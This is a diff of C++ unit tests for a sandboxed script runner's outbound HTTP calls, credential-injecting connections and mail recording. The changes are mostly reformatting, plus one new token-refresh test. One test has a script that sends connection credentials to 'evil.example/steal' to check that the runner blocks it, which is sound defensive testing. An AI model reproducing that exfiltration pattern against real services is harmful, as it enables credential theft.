@@ -91,16 +91,16 @@ TEST(ProgramCacheTest, DropsTheLeastRecentlyUsed) {
 TEST_F(RunnerTest, LoginUserAndTimeZone) {
   RunResult r = Run("info zoho.loginuser;\ninfo zoho.loginuserid;\ninfo zoho.adminuser;");
   EXPECT_TRUE(r.ok) << r.error_message;
-  EXPECT_EQ(r.info, (std::vector<std::string>{"dev@example.com", "dev@example.com",
-                                              "admin@example.com"}));
+  EXPECT_EQ(r.info,
+            (std::vector<std::string>{"dev@example.com", "dev@example.com", "admin@example.com"}));
 }
 
 TEST_F(RunnerTest, InvokeUrlWithoutConnectionUsesTheEnvironmentsClient) {
   api_ = [](const outbound::Request&) { return FakeHttpClient::Json(200, R"({"ok":true})"); };
-  RunResult r = Run(
-      "m = Map();\nm.put(\"q\", \"a b\");\n"
-      "r = invokeurl [ url: \"https://api.example.com/v1/items?api_key=s3cret\" type: GET "
-      "parameters: m headers: {\"X-Trace\": \"1\"} ];\ninfo r;");
+  RunResult r =
+      Run("m = Map();\nm.put(\"q\", \"a b\");\n"
+          "r = invokeurl [ url: \"https://api.example.com/v1/items?api_key=s3cret\" type: GET "
+          "parameters: m headers: {\"X-Trace\": \"1\"} ];\ninfo r;");
   EXPECT_TRUE(r.ok) << r.error_message;
   EXPECT_EQ(r.info, std::vector<std::string>{"{\"ok\":true}"});
   auto sent = ApiRequests();
@@ -138,7 +138,8 @@ TEST_F(RunnerTest, TransportErrorsAreRuntimeErrorsAndListedCalls) {
   api_ = [](const outbound::Request&) -> Result<outbound::Response> {
     return Unavailable("connection refused");
   };
-  RunResult r = Run("info \"start\";\nr = invokeurl [ url: \"https://down.example/x?token=t0ken\" ];");
+  RunResult r =
+      Run("info \"start\";\nr = invokeurl [ url: \"https://down.example/x?token=t0ken\" ];");
   EXPECT_FALSE(r.ok);
   EXPECT_EQ(r.error_line, 2);
   EXPECT_EQ(r.error_message, "invokeurl to https://down.example/x failed: connection refused");
@@ -152,8 +153,9 @@ TEST_F(RunnerTest, TimeoutsAreTheInvokeUrlLimit) {
   api_ = [](const outbound::Request&) -> Result<outbound::Response> {
     return DeadlineExceeded("timed out");
   };
-  RunRequest req = Request("try { r = invokeurl [ url: \"https://slow.example/\" ]; } "
-                           "catch (e) { info \"caught\"; }");
+  RunRequest req = Request(
+      "try { r = invokeurl [ url: \"https://slow.example/\" ]; } "
+      "catch (e) { info \"caught\"; }");
   req.limits.invokeurl_timeout = std::chrono::milliseconds(500);
   auto r = runner_->Run(req);
   ASSERT_TRUE(r.ok());
@@ -181,9 +183,9 @@ TEST_F(RunnerTest, InvokeUrlThroughAConnectionInjectsCredentialsAndAudits) {
   api_ = [](const outbound::Request&) {
     return FakeHttpClient::Json(200, R"({"code":0,"contacts":[]})");
   };
-  RunResult r = Run(
-      "r = invokeurl [ url: \"https://books.zoho.com/api/v3/contacts\" type: GET "
-      "parameters: {\"search_text\": \"a@b.co\"} connection: \"books\" ];\ninfo r;");
+  RunResult r =
+      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/contacts\" type: GET "
+          "parameters: {\"search_text\": \"a@b.co\"} connection: \"books\" ];\ninfo r;");
   EXPECT_TRUE(r.ok) << r.error_message;
   EXPECT_EQ(r.info, std::vector<std::string>{"{\"code\":0,\"contacts\":[]}"});
   auto sent = ApiRequests();
@@ -210,8 +212,9 @@ TEST_F(RunnerTest, InvokeUrlThroughAConnectionInjectsCredentialsAndAudits) {
 TEST_F(RunnerTest, AToppingsLinkNameResolvesWithItsNamespace) {
   Connect("zoho_books", "ns__books", "books-token-2");
   api_ = [](const outbound::Request&) { return FakeHttpClient::Json(200, "{}"); };
-  RunRequest req = Request("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
-                           "connection: \"books\" ];");
+  RunRequest req = Request(
+      "r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
+      "connection: \"books\" ];");
   req.topping = "ns";
   auto r = runner_->Run(req);
   ASSERT_TRUE(r.ok());
@@ -220,8 +223,9 @@ TEST_F(RunnerTest, AToppingsLinkNameResolvesWithItsNamespace) {
 }
 
 TEST_F(RunnerTest, ConnectionErrorsSayWhatToDo) {
-  RunResult missing = Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
-                          "connection: \"nope\" ];");
+  RunResult missing =
+      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
+          "connection: \"nope\" ];");
   EXPECT_FALSE(missing.ok);
   EXPECT_EQ(missing.error_message,
             "invokeurl to https://books.zoho.com/api/v3/x failed: no connection 'nope' in the "
@@ -231,8 +235,9 @@ TEST_F(RunnerTest, ConnectionErrorsSayWhatToDo) {
   EXPECT_EQ(missing.calls[0].error, "no connection 'nope' in the sandbox environment");
 
   Connect("zoho_books", "books", "books-token-1");
-  RunResult elsewhere = Run("r = invokeurl [ url: \"https://evil.example/steal\" "
-                            "connection: \"books\" ];");
+  RunResult elsewhere =
+      Run("r = invokeurl [ url: \"https://evil.example/steal\" "
+          "connection: \"books\" ];");
   EXPECT_FALSE(elsewhere.ok);
   EXPECT_EQ(elsewhere.error_message,
             "invokeurl to https://evil.example/steal failed: connection 'books' (service "
@@ -240,11 +245,27 @@ TEST_F(RunnerTest, ConnectionErrorsSayWhatToDo) {
             "books.zoho.com");
 
   ASSERT_TRUE(connections_->Revoke(org_id_, "sandbox", "books", user_id_).ok());
-  RunResult revoked = Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
-                          "connection: \"books\" ];");
+  RunResult revoked =
+      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
+          "connection: \"books\" ];");
   EXPECT_FALSE(revoked.ok);
   EXPECT_EQ(revoked.error_message,
             "invokeurl to https://books.zoho.com/api/v3/x failed: connection 'books' was revoked");
+}
+
+TEST_F(RunnerTest, AConnectionWhoseRefreshIsRefusedNeedsAuthorizingAgain) {
+  Connect("zoho_books", "books", "books-token-1");
+  token_error_ = "invalid_grant";
+  clock_.Advance(std::chrono::hours(2));  // the access token has expired
+  RunResult r =
+      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
+          "connection: \"books\" ];");
+  EXPECT_FALSE(r.ok);
+  EXPECT_TRUE(r.error_message.starts_with(
+      "invokeurl to https://books.zoho.com/api/v3/x failed: connection 'books' needs to be "
+      "authorized again: "))
+      << r.error_message;
+  EXPECT_TRUE(ApiRequests().empty());  // nothing went out without credentials
 }
 
 TEST_F(RunnerTest, WithoutPlatformServicesConnectionsAndTasksFailClearly) {
@@ -262,9 +283,9 @@ TEST_F(RunnerTest, WithoutPlatformServicesConnectionsAndTasksFailClearly) {
 }
 
 TEST_F(RunnerTest, SendMailIsRecordedNotDelivered) {
-  RunResult r = Run(
-      "sendmail [ from: zoho.adminuserid to: \"a@example.com, b@example.com\" "
-      "subject: \"Hello\" message: \"Hi\" ];");
+  RunResult r =
+      Run("sendmail [ from: zoho.adminuserid to: \"a@example.com, b@example.com\" "
+          "subject: \"Hello\" message: \"Hi\" ];");
   EXPECT_TRUE(r.ok) << r.error_message;
   EXPECT_EQ(r.mails, std::vector<std::string>{"to a@example.com, b@example.com: Hello"});
   EXPECT_TRUE(ApiRequests().empty());
